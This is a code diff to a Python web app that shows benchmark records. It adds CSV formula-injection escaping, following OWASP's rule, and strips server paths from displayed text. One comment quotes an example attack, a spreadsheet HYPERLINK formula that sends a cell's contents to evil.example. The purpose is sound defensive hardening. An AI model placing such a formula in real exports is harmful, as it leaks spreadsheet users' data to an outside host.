@@ -2,10 +2,13 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
+from pathlib import Path
 from typing import Literal
 
 from evaluator.check import compliance_report
+from evaluator.check.findings import Evidence, RuleResult
 from evaluator.records.record import read_readme
 from webapp.catalog import CatalogEntry, RecordCatalog
 from webapp.schemas import RecordDetail, RecordIndex, RecordRow, SeedCurve, TrainPointOut, ValPointOut
@@ -52,13 +55,28 @@ def record_index(catalog: RecordCatalog, sort: SortKey = "date", order: Literal[
     present = [row for row in shown if getattr(row, sort) is not None]
     missing = [row for row in shown if getattr(row, sort) is None]
     present.sort(key=lambda row: (_sort_value(row, sort), row.folder), reverse=order == "desc")
-    return RecordIndex(rows=present + missing, total=len(rows), roots=[str(root) for root in catalog.roots],
-                       problems=snapshot.problems, tracks=tracks, sort=sort, order=order, q=q, track=track,
-                       status=status)
+    # the roots by name only, and problems without the server's folders above them
+    return RecordIndex(rows=present + missing, total=len(rows), roots=[root.name for root in catalog.roots],
+                       problems=[_public(problem, *catalog.roots) for problem in snapshot.problems], tracks=tracks,
+                       sort=sort, order=order, q=q, track=track, status=status)
 
 
 CSV_COLUMNS = ("id", "track", "date", "name", "author", "headline_kind", "best_bpb", "n_seeds", "mean_bpb", "std_bpb",
                "claimed_bpb", "worst_total_bytes", "size_cap_bytes", "status", "verdict")
+
+
+# a spreadsheet runs a cell that starts with one of these as a formula (=HYPERLINK("http://evil.example/?"&A1))
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value) -> str:
+    """A value as a CSV cell no spreadsheet runs: text starting like a formula gets a leading ' (OWASP's rule)."""
+    if value is None:
+        return ""
+    if isinstance(value, float):
+        return f"{value:.8f}"
+    text = str(value)
+    return "'" + text if isinstance(value, str) and text.startswith(FORMULA_STARTS) else text
 
 
 def index_csv(index: RecordIndex) -> str:
@@ -67,8 +85,7 @@ def index_csv(index: RecordIndex) -> str:
     writer.writerow(CSV_COLUMNS)
     for row in index.rows:
         values = row.model_dump()
-        writer.writerow(["" if values[col] is None else (f"{values[col]:.8f}" if isinstance(values[col], float)
-                                                         else values[col]) for col in CSV_COLUMNS])
+        writer.writerow([csv_cell(values[col]) for col in CSV_COLUMNS])
     return out.getvalue()
 
 
@@ -97,14 +114,29 @@ def seed_curves(entry: CatalogEntry) -> list[SeedCurve]:
             for log in entry.record.logs if log.train_curve or log.val_curve]
 
 
+def _public(text: str, *roots: Path) -> str:
+    """A reader's text with the server's own path above a records root left out (/srv/x/records/a -> records/a)."""
+    for root in roots:
+        text = text.replace(f"{root.parent.as_posix().rstrip('/')}/", "")
+    return text
+
+
+def _public_rows(rows: list[RuleResult], root: Path) -> list[RuleResult]:
+    return [dataclasses.replace(row, summary=_public(row.summary, root), evidence=[
+        Evidence(_public(item.text, root), item.file and _public(item.file, root), item.line) for item in row.evidence])
+        for row in rows]
+
+
 def record_detail(entry: CatalogEntry, against: CatalogEntry | None = None) -> RecordDetail:
-    """The record's page; with `against`, the compliance report's significance rule and the comparison use it."""
+    """The record's page; with `against`, the compliance report's significance rule and the comparison use it.
+    Paths are shown from the records root down: the server's folders above it are nobody's business."""
     record, sub = entry.record, entry.record.submission
     report = compliance_report(record, against.record) if against else entry.compliance
     readme = read_readme(record)
     return RecordDetail(
-        row=record_row(entry), path=record.path, blurb=sub.blurb if sub else None,
+        row=record_row(entry), path=_public(str(record.path), entry.root), blurb=sub.blurb if sub else None,
         hardware=sub.hardware if sub else None, readme_markdown=readme.text if readme and readme.text else None,
         readme_note=readme.note if readme else None, seed_table=entry.seeds,
-        compliance=report.rows, compliance_status=report.status.value, warnings=record.warnings,
+        compliance=_public_rows(report.rows, entry.root), compliance_status=report.status.value,
+        warnings=[_public(warning, entry.root) for warning in record.warnings],
         against=against.id if against else None, comparison=report.comparison, curves=seed_curves(entry))
